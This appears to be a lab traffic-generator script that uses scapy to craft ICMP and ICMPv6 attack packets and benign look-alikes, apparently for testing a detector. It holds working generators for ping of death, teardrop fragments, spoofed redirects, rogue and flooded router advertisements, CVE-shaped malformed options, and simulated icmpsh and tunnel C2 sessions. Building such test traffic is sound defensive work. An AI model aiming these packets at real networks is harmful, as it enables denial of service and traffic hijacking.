#!/usr/bin/python3
"""Crafted ICMP attacks and look-alikes for the guard lab (lab/guard/record.sh).

Usage: craft.py PREFIX SCENARIO

PREFIX is the lab's namespace prefix (namespaces PREFIX-atk, PREFIX-rtr,
PREFIX-vic, PREFIX-h1..h4, PREFIX-srv, PREFIX-edge; addresses in
lab/guard/record.sh). One process sends from several namespaces: it opens a
raw socket inside each (setns) and writes whole packets built with scapy, so
sources can be spoofed and fields set to anything. Every scenario sends a
bounded number of packets to addresses of the lab only, with fixed payloads
and a seeded random generator, so two runs send the same bytes.

Run it with /usr/bin/python3 (Debian's, with scapy 2.5).
"""

import ctypes
import os
import random
import socket
import struct
import sys
import time

from scapy.all import (  # noqa: E402
    ICMP, IP, UDP, TCP, IPv6, ICMPv6EchoRequest, ICMPv6PacketTooBig,
    ICMPv6TimeExceeded, ICMPv6DestUnreach, ICMPv6ND_RA, ICMPv6ND_RS, ICMPv6ND_Redirect,
    ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, ICMPv6NDOptRedirectedHdr, ICMPv6NDOptMTU,
    ICMPv6MLReport2, ICMPv6MLDMultAddrRec, IPv6ExtHdrHopByHop, RouterAlert, Raw,
)

# Addresses of the lab (record.sh builds it).
ATK4, ATK6 = "203.0.113.66", "2001:db8:66::66"
# Forged errors from outside claim to come from a router on the path that is
# no node of the lab (a lab router drops packets bearing its own address).
EDGE4, EDGE6 = "203.0.113.9", "2001:db8:e::9"
RTR4, RTR6, RTR_LL = "192.0.2.30", "2001:db8:1::1", "fe80::1"
VIC4, VIC6, VIC_LL = "192.0.2.10", "2001:db8:1::10", "fe80::10"
H4_4, H4_6, H4_LL = "192.0.2.14", "2001:db8:1::14", "fe80::14"
LAN4_BCAST = "192.0.2.31"
SRV4, SRV6 = "198.51.100.2", "2001:db8:2::2"
LAN4_HOSTS = ["192.0.2.%d" % n for n in range(1, 31)]

CLONE_NEWNET = 0x40000000
_libc = ctypes.CDLL(None, use_errno=True)
PREFIX = ""
_sockets = {}


def in_ns(name, fn):
    """Runs fn() inside namespace PREFIX-name and comes back."""
    home = os.open("/proc/self/ns/net", os.O_RDONLY)
    target = os.open("/run/netns/%s-%s" % (PREFIX, name), os.O_RDONLY)
    try:
        if _libc.setns(target, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), "setns %s" % name)
        return fn()
    finally:
        _libc.setns(home, CLONE_NEWNET)
        os.close(home)
        os.close(target)


def sock(ns, family):
    """A raw socket (the caller writes the IP header) opened inside ns."""
    key = (ns, family)
    if key not in _sockets:
        def make():
            ifname = "br0" if ns == "rtr" else "e0"
            if family == socket.AF_PACKET:
                return socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86DD)), ifname
            s = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
            if family == socket.AF_INET:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            return s, socket.if_nametoindex(ifname)
        _sockets[key] = in_ns(ns, make)
    return _sockets[key]


def send(ns, pkt, gap=0.002):
    """Sends one scapy packet (IP or IPv6 at the top) from namespace ns."""
    data = bytes(pkt)
    if data[0] >> 4 == 6 and data[24] == 0xFF:
        # IPv6 multicast: straight onto the link (AF_PACKET), past the
        # sender's IPv6 stack, which refuses a long run of spoofed sources.
        s, ifname = sock(ns, socket.AF_PACKET)
        s.sendto(data, (ifname, 0x86DD, 0, 0, b"\x33\x33" + data[36:40]))
    elif data[0] >> 4 == 6:
        s, ifindex = sock(ns, socket.AF_INET6)
        dst = socket.inet_ntop(socket.AF_INET6, data[24:40])
        s.sendto(data, (dst, 0, 0, ifindex))
    else:
        s, _ = sock(ns, socket.AF_INET)
        s.sendto(data, (socket.inet_ntoa(data[16:20]), 0))
    if gap:
        time.sleep(gap)


def quote(pkt, n=8):
    """The bytes an ICMP error quotes: the IP header and n bytes after it."""
    data = bytes(pkt)
    if data[0] >> 4 == 6:
        return data[: 40 + n]
    return data[: (data[0] & 15) * 4 + n]


def victim_udp4(dport=33434, dst=SRV4):
    return IP(src=VIC4, dst=dst, ttl=64, id=0x1234) / UDP(sport=40000, dport=dport) / (b"\x00" * 32)


def victim_udp6(dport=33434, dst=SRV6):
    return IPv6(src=VIC6, dst=dst, hlim=64) / UDP(sport=40000, dport=dport) / (b"\x00" * 32)


def echo_payload(n, fill=0x41):
    return bytes([fill]) * n


# --- fragments ---------------------------------------------------------------

def frag4(src, dst, ident, offset_bytes, more, data, proto=1):
    flags = "MF" if more else 0
    return IP(src=src, dst=dst, id=ident, flags=flags, frag=offset_bytes // 8, proto=proto, ttl=64) / Raw(data)


def ping_of_death():
    """Fragments of one echo request that reassemble to 65,608 bytes of IP."""
    icmp = bytes(ICMP(type=8, id=0xdead, seq=1) / (b"\x50" * (65588 - 8)))
    chunk = 1480
    for off in range(0, len(icmp), chunk):
        part = icmp[off: off + chunk]
        send("atk", frag4(ATK4, VIC4, 0x0d0d, off, off + chunk < len(icmp), part), gap=0.001)


def overlapping_fragments():
    """An echo request whose second fragment rewrites bytes of the first
    with different data (teardrop-like overlap), twice: IPv4 and IPv6."""
    icmp = bytes(ICMP(type=8, id=0x7ea5, seq=1) / (b"\x11" * 64))
    send("atk", frag4(ATK4, VIC4, 0x7ea1, 0, True, icmp[:48]))
    # Offset 24 overlaps bytes 24..47 of the first fragment with 0x22.
    send("atk", frag4(ATK4, VIC4, 0x7ea1, 24, False, b"\x22" * (len(icmp) - 24)))
    # Classic teardrop: second fragment wholly inside the first.
    send("atk", frag4(ATK4, VIC4, 0x7ea2, 0, True, icmp[:48]))
    send("atk", frag4(ATK4, VIC4, 0x7ea2, 8, False, b"\x33" * 16))
    from scapy.all import IPv6ExtHdrFragment
    base = IPv6(src=ATK6, dst=VIC6, hlim=64)
    icmp6 = bytes(base / ICMPv6EchoRequest(id=0x7ea6, seq=1, data=b"\x11" * 64))[40:]
    send("atk", base / IPv6ExtHdrFragment(nh=58, offset=0, m=1, id=0x7ea6) / Raw(icmp6[:48]))
    send("atk", base / IPv6ExtHdrFragment(nh=58, offset=3, m=0, id=0x7ea6) / Raw(b"\x22" * (len(icmp6) - 24)))


# --- spoofed errors and control messages --------------------------------------

def redirect4():
    """From h4 (a LAN host), posing as the router: ICMP Redirect for the
    server to an off-link gateway (the attacker), then to an on-link one (h4)."""
    q = quote(victim_udp4())
    send("h4", IP(src=RTR4, dst=VIC4, ttl=64) / ICMP(type=5, code=1, gw=ATK4) / Raw(q))
    send("h4", IP(src=RTR4, dst=VIC4, ttl=64) / ICMP(type=5, code=1, gw=H4_4) / Raw(q))
    # Redirect for network and for TOS/host (codes 0 and 3), on-link gateway.
    send("h4", IP(src=RTR4, dst=VIC4, ttl=64) / ICMP(type=5, code=0, gw=H4_4) / Raw(q))
    send("h4", IP(src=RTR4, dst=VIC4, ttl=64) / ICMP(type=5, code=3, gw=H4_4) / Raw(q))


def redirect6():
    """From h4, posing as the router's link-local address: ICMPv6 Redirects
    of the server to h4 (on-link target) and of the server to itself
    (target = destination: "the destination is on-link")."""
    q = bytes(victim_udp6())
    for target in (H4_LL, SRV6):
        pkt = (IPv6(src=RTR_LL, dst=VIC_LL, hlim=255)
               / ICMPv6ND_Redirect(tgt=target, dst=SRV6)
               / ICMPv6NDOptRedirectedHdr(pkt=q))
        send("h4", pkt)


def ra(src_ll, prefix, router_lifetime=1800, extra=None, mac="02:00:00:00:00:01"):
    pkt = (IPv6(src=src_ll, dst="ff02::1", hlim=255)
           / ICMPv6ND_RA(routerlifetime=router_lifetime, chlim=64)
           / ICMPv6NDOptSrcLLAddr(lladdr=mac)
           / ICMPv6NDOptMTU(mtu=1500)
           / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64, validlifetime=86400,
                                   preferredlifetime=14400))
    if extra is not None:
        pkt = pkt / extra
    return pkt


def rogue_ra():
    """h4 advertises itself as a default router with its own prefix."""
    for _ in range(3):
        send("h4", ra(H4_LL, "2001:db8:bad::", mac="02:00:00:00:00:14"), gap=0.2)


def ra_flood():
    """300 RAs from random link-local sources with random /64s of
    2001:db8::/32 (flood_router6's shape), seeded."""
    rnd = random.Random(6)
    for _ in range(300):
        src = "fe80::%x:%x:%x:%x" % tuple(rnd.getrandbits(16) for _ in range(4))
        prefix = "2001:db8:%x:%x::" % (rnd.getrandbits(16), rnd.getrandbits(16))
        mac = "02:%02x:%02x:%02x:%02x:%02x" % tuple(rnd.getrandbits(8) for _ in range(5))
        send("h4", ra(src, prefix, mac=mac), gap=0.001)


def rand_source_flood():
    """1,000 echo requests to the victim as fast as they go, each from a
    random source of 203.0.113.128/25 (hping3 --rand-source's shape, kept
    to a documentation range), seeded."""
    rnd = random.Random(9)
    for i in range(1000):
        src = "203.0.113.%d" % rnd.randrange(128, 255)
        send("atk", IP(src=src, dst=VIC4, ttl=61) / ICMP(id=rnd.getrandbits(16), seq=i), gap=0)


def router_solicitation():
    """The victim's Router Solicitation (radvd on the router answers)."""
    send("vic", IPv6(src=VIC_LL, dst="ff02::2", hlim=255) / ICMPv6ND_RS()
         / ICMPv6NDOptSrcLLAddr(lladdr="02:00:00:00:00:10"))


def rdnss_even():
    """An RA from h4 with an RDNSS option whose length is even (4: 32 bytes,
    one and a half addresses), CVE-2020-16898's shape; and a well-formed
    RDNSS (length 3) for comparison in the same file."""
    dns = socket.inet_pton(socket.AF_INET6, "2001:db8:1::53")
    bad = bytes([25, 4, 0, 0]) + struct.pack("!I", 600) + dns + b"\x41" * 8
    good = bytes([25, 3, 0, 0]) + struct.pack("!I", 600) + dns
    send("h4", ra(H4_LL, "2001:db8:bad::", mac="02:00:00:00:00:14", extra=Raw(bad)))
    send("h4", ra(H4_LL, "2001:db8:bad::", mac="02:00:00:00:00:14", extra=Raw(good)))


def source_quench():
    """Source Quench (deprecated by RFC 6633) to the victim about its TCP
    flow, from the attacker posing as a router on the path (203.0.113.9)."""
    q = quote(IP(src=VIC4, dst=SRV4, id=0x2222) / TCP(sport=40001, dport=80, flags="A", seq=1000))
    for _ in range(3):
        send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=4, code=0) / Raw(q))


def frag_needed_low():
    """Fragmentation Needed with next-hop MTU 68 and 296 (< 576), spoofed
    from a router on the path (203.0.113.9), quoting the victim's real echo flow to the server."""
    q = quote(IP(src=VIC4, dst=SRV4, id=0x3333, flags="DF") / ICMP(type=8, id=0x5151, seq=1) / (b"\x00" * 56))
    for mtu in (68, 296):
        send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=3, code=4, nexthopmtu=mtu) / Raw(q))


def ptb_low():
    """Packet Too Big with MTU 600 (< 1280) about the victim's echo flow."""
    q = bytes(IPv6(src=VIC6, dst=SRV6) / ICMPv6EchoRequest(id=0x5252, seq=1, data=b"\x00" * 56))
    send("atk", IPv6(src=EDGE6, dst=VIC6) / ICMPv6PacketTooBig(mtu=600) / Raw(q))


def ptb_no_flow():
    """Packet Too Big (MTU 1280, plausible) quoting a TCP flow the victim
    never had (port 443; record.sh has it try port 80 of that address
    first), and Frag Needed (MTU 1400) quoting a UDP flow that never
    existed (port 4500; it sent to 4501)."""
    q6 = bytes(IPv6(src=VIC6, dst="2001:db8:2::99") / TCP(sport=51515, dport=443, flags="A") / (b"\x00" * 1300))
    send("atk", IPv6(src=EDGE6, dst=VIC6) / ICMPv6PacketTooBig(mtu=1280) / Raw(q6[:1232]))
    q4 = quote(IP(src=VIC4, dst="198.51.100.99", id=0x4444, flags="DF") / UDP(sport=51516, dport=4500) / (b"\x00" * 1400))
    send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=3, code=4, nexthopmtu=1400) / Raw(q4))


def errors_never_sent():
    """Time Exceeded and Port Unreachable (both families) about UDP the
    victim never sent (RFC 5927 blind attacks)."""
    q4 = quote(victim_udp4(dport=33434))
    send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=11, code=0) / Raw(q4))
    send("atk", IP(src=SRV4, dst=VIC4) / ICMP(type=3, code=3) / Raw(quote(victim_udp4(dport=53))))
    q6 = bytes(victim_udp6(dport=33434))
    send("atk", IPv6(src=EDGE6, dst=VIC6) / ICMPv6TimeExceeded(code=0) / Raw(q6))
    send("atk", IPv6(src=SRV6, dst=VIC6) / ICMPv6DestUnreach(code=4) / Raw(bytes(victim_udp6(dport=53))))
    # A TCP reset by error: Protocol/Port Unreachable about a TCP flow never opened.
    qt = quote(IP(src=VIC4, dst=SRV4, id=0x5555) / TCP(sport=40002, dport=22, flags="A", seq=7777))
    send("atk", IP(src=SRV4, dst=VIC4) / ICMP(type=3, code=2) / Raw(qt))


def quoted_options():
    """Destination Unreachable whose quoted IPv4 header carries 40 bytes of
    options (IHL 15), CVE-2022-23093's shape (FreeBSD ping overflow)."""
    opts = b"\x01" * 39 + b"\x00"  # NOPs then End of Options: IHL 15
    inner = IP(src=VIC4, dst=SRV4, ihl=15, id=0x6666, options=[Raw(opts)]) / ICMP(type=8, id=0x6161, seq=1) / (b"\x00" * 8)
    q = bytes(inner)[:60 + 8]
    send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=3, code=1) / Raw(q))
    send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=11, code=0) / Raw(q))


# --- echo sessions (both sides crafted; the kernel's echo is off where noted) --

def session(client, server, csrc, sdst, ident, requests, replies, gap=0.01):
    """Sends requests[i] from client and replies[i] (if not None) from server."""
    for seq, (req, rep) in enumerate(zip(requests, replies), start=1):
        send(client, IP(src=csrc, dst=sdst, ttl=64) / ICMP(type=8, id=ident, seq=seq) / Raw(req), gap=0.001)
        if rep is not None:
            send(server, IP(src=sdst, dst=csrc, ttl=64) / ICMP(type=0, id=ident, seq=seq) / Raw(rep), gap=0.001)
        time.sleep(gap)


def reply_mismatch():
    """The victim's pings answered (by the server, whose kernel echo is off)
    with replies whose data are not the request's."""
    reqs = [echo_payload(56, 0x61) for _ in range(5)]
    reps = [b"exfil-%02d:" % i + bytes(range(48)) for i in range(5)]
    session("vic", "srv", VIC4, SRV4, 0x0bad, reqs, reps, gap=0.05)


def icmptunnel():
    """icmptunnel's shape: the echo data is an IPv4 packet (a TCP exchange
    between tunnel addresses 10.x would be typical; documentation addresses
    here), requests from the victim, replies from the attacker's proxy."""
    reqs, reps = [], []
    for i in range(12):
        up = bytes(IP(src="192.0.2.200", dst="203.0.113.200", id=100 + i)
                   / TCP(sport=50000, dport=22, seq=1000 + 40 * i, flags="PA") / (b"ls -la /tmp\n" * 3))
        down = bytes(IP(src="203.0.113.200", dst="192.0.2.200", id=200 + i)
                     / TCP(sport=22, dport=50000, seq=9000 + 300 * i, flags="PA")
                     / (b"-rw-r--r-- 1 root root 4096 file%02d\n" % i * 6))
        reqs.append(up)
        reps.append(down)
    session("vic", "atk", VIC4, ATK4, 0x0001, reqs, reps, gap=0.05)


def hans():
    """hans' shape: 'hanc' + type byte from the client in requests (8 = poll,
    7 = data carrying an IPv4 packet), 'hans' + type in the server's replies."""
    reqs, reps = [], []
    # Connection request (type 2: version, max polls, desired ip), challenge (3),
    # challenge response (4), accept (5), then polls and data.
    reqs.append(b"hanc\x02" + bytes([10]) + b"\x00\x00\x00\x00")
    reps.append(b"hans\x03" + bytes(range(32)))
    reqs.append(b"hanc\x04" + bytes(range(100, 120)))
    reps.append(b"hans\x05" + socket.inet_aton("192.0.2.201"))
    for i in range(10):
        pkt = bytes(IP(src="192.0.2.201", dst="203.0.113.201", id=i) / UDP(sport=5353 + i, dport=53) / (b"q" * (20 + i)))
        back = bytes(IP(src="203.0.113.201", dst="192.0.2.201", id=i) / UDP(sport=53, dport=5353 + i) / (b"a" * (60 + i)))
        reqs.append(b"hanc\x07" + pkt if i % 2 == 0 else b"hanc\x08")
        reps.append(b"hans\x07" + back)
    session("vic", "atk", VIC4, ATK4, 0x4a4a, reqs, reps, gap=0.05)


def icmpsh():
    """icmpsh's shape: the slave (victim) polls the master (attacker, kernel
    echo off) with echo requests every 200 ms; the master's replies carry the
    operator's command, the next requests carry its output (at most 64 bytes
    each, like the slave's default buffer); idle polls and replies are empty."""
    output = (b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n"
              b"C:\\Users\\victim>whoami\r\ndesktop-lab\\victim\r\n\r\nC:\\Users\\victim>")
    cmds = [b"whoami\n", b"ipconfig\n"]
    reqs, reps = [], []
    chunks = [output[i: i + 64] for i in range(0, len(output), 64)]
    for c in chunks[:2]:
        reqs.append(c)
        reps.append(b"")
    reqs.append(b"")
    reps.append(cmds[0])
    for c in chunks[2:]:
        reqs.append(c)
        reps.append(b"")
    for _ in range(4):
        reqs.append(b"")
        reps.append(b"")
    reqs.append(b"")
    reps.append(cmds[1])
    reqs.append(b"\r\nWindows IP Configuration\r\n\r\n")
    reps.append(b"")
    for _ in range(3):
        reqs.append(b"")
        reps.append(b"")
    session("vic", "atk", VIC4, ATK4, 0x0200, reqs, reps, gap=0.2)


def entropy_session():
    """A steady echo session (120 exchanges, 6 s) from the victim to the
    attacker with random payloads of random sizes (seeded), answered by the
    attacker's kernel (so replies equal requests)."""
    rnd = random.Random(42)
    for seq in range(1, 121):
        n = rnd.randrange(64, 1024)
        data = bytes(rnd.getrandbits(8) for _ in range(n))
        send("vic", IP(src=VIC4, dst=ATK4, ttl=64) / ICMP(type=8, id=0x3131, seq=seq) / Raw(data), gap=0.05)


# --- sweeps --------------------------------------------------------------------

def timestamp_sweep():
    """Timestamp requests from the attacker to every address of the LAN /27."""
    for i, dst in enumerate(LAN4_HOSTS):
        send("atk", IP(src=ATK4, dst=dst) / ICMP(type=13, id=0x7373, seq=i + 1, ts_ori=1000 + i, ts_rx=0, ts_tx=0), gap=0.01)


def mask_sweep():
    """Address Mask requests (type 17) to every address of the LAN /27."""
    for i, dst in enumerate(LAN4_HOSTS):
        send("atk", IP(src=ATK4, dst=dst) / ICMP(type=17, id=0x6d6d, seq=i + 1, addr_mask="0.0.0.0"), gap=0.01)


def inet_checksum(data):
    """The Internet checksum (RFC 1071) of data."""
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def probe_object(name):
    """RFC 8335 extension structure: version 2, one Interface Identification
    object (class 3, C-type 1: by name)."""
    nm = name.encode()
    nm += b"\x00" * (-len(nm) % 4)
    obj = struct.pack("!HBB", 4 + len(nm), 3, 1) + nm
    hdr = bytearray(struct.pack("!BBH", 0x20, 0, 0) + obj)
    hdr[2:4] = struct.pack("!H", inet_checksum(bytes(hdr)))
    return bytes(hdr)


def probe_sweep():
    """Extended Echo (PROBE, type 42) requests for interface 'e0' to every
    address of the LAN /27 (sequence 8 bits, L bit set)."""
    for i, dst in enumerate(LAN4_HOSTS):
        body = bytearray(struct.pack("!BBHHBB", 42, 0, 0, 0x7072, i + 1, 0x01) + probe_object("e0"))
        body[2:4] = struct.pack("!H", inet_checksum(bytes(body)))
        send("atk", IP(src=ATK4, dst=dst, proto=1) / Raw(bytes(body)), gap=0.01)


# --- anomalies -------------------------------------------------------------------

def anomalies():
    """Bad checksums, truncated ICMP, unknown types and codes, each family's
    ICMP carried in the other, MLD with a hop limit other than 1."""
    # Bad checksums (echo requests; the victim's kernel drops them).
    send("atk", IP(src=ATK4, dst=VIC4) / ICMP(type=8, id=0xbad0, seq=1, chksum=0x1234) / (b"\x00" * 32))
    send("atk", IPv6(src=ATK6, dst=VIC6) / ICMPv6EchoRequest(id=0xbad0, seq=1, cksum=0x1234, data=b"\x00" * 32))
    # Truncated: 3 bytes of ICMP header; an echo request of 6 bytes; an error
    # whose quote stops inside the IP header.
    send("atk", IP(src=ATK4, dst=VIC4, proto=1) / Raw(b"\x08\x00\xf7"))
    send("atk", IP(src=ATK4, dst=VIC4, proto=1) / Raw(b"\x08\x00\xf7\xff\x00\x00"))
    send("atk", IP(src=EDGE4, dst=VIC4) / ICMP(type=3, code=3) / Raw(quote(victim_udp4())[:12]))
    send("atk", IPv6(src=ATK6, dst=VIC6, nh=58) / Raw(b"\x80\x00"))
    # Unknown types and codes.
    send("atk", IP(src=ATK4, dst=VIC4) / ICMP(type=99, code=0) / (b"\x00" * 8))
    send("atk", IP(src=ATK4, dst=VIC4) / ICMP(type=3, code=99) / Raw(quote(victim_udp4())))
    send("atk", IP(src=ATK4, dst=VIC4) / ICMP(type=8, code=7, id=0xbad1, seq=1) / (b"\x00" * 8))
    send("atk", IPv6(src=ATK6, dst=VIC6) / ICMPv6EchoRequest(code=5, id=0xbad1, seq=1))
    send("atk", IPv6(src=ATK6, dst=VIC6, nh=58) / Raw(bytes(ICMPv6EchoRequest(type=250, cksum=0x1111))))
    send("atk", IPv6(src=ATK6, dst=VIC6) / ICMPv6DestUnreach(code=9) / Raw(bytes(victim_udp6())))
    # ICMPv6 in IPv4 (protocol 58) and ICMPv4 in IPv6 (next header 1).
    send("atk", IP(src=ATK4, dst=VIC4, proto=58) / Raw(bytes(ICMPv6EchoRequest(id=0xbad2, seq=1, cksum=0x0bad))))
    send("atk", IPv6(src=ATK6, dst=VIC6, nh=1) / ICMP(type=8, id=0xbad3, seq=1) / (b"\x00" * 8))
    # MLDv2 reports with hop limit 64 and 255 (must be 1), from h4 on the LAN.
    rec = ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::1:ff00:14")
    for hlim in (64, 255):
        pkt = (IPv6(src=H4_LL, dst="ff02::16", hlim=hlim)
               / IPv6ExtHdrHopByHop(options=[RouterAlert(value=0)])
               / ICMPv6MLReport2(records=[rec]))
        send("h4", pkt)


def mld_ok():
    """A well-formed MLDv2 report (hop limit 1, Router Alert): benign."""
    rec = ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::1:ff00:14")
    send("h4", IPv6(src=H4_LL, dst="ff02::16", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert(value=0)])
         / ICMPv6MLReport2(records=[rec]))


SCENARIOS = {f.__name__.replace("_", "-"): f for f in [
    rand_source_flood,
    ping_of_death, overlapping_fragments, redirect4, redirect6, rogue_ra, ra_flood, router_solicitation,
    rdnss_even, source_quench, frag_needed_low, ptb_low, ptb_no_flow, errors_never_sent,
    quoted_options, reply_mismatch, icmptunnel, hans, icmpsh, entropy_session,
    timestamp_sweep, mask_sweep, probe_sweep, anomalies, mld_ok,
]}


def main():
    global PREFIX
    if len(sys.argv) != 3 or sys.argv[2] not in SCENARIOS:
        sys.exit("usage: craft.py PREFIX {%s}" % "|".join(SCENARIOS))
    PREFIX = sys.argv[1]
    SCENARIOS[sys.argv[2]]()


if __name__ == "__main__":
    main()
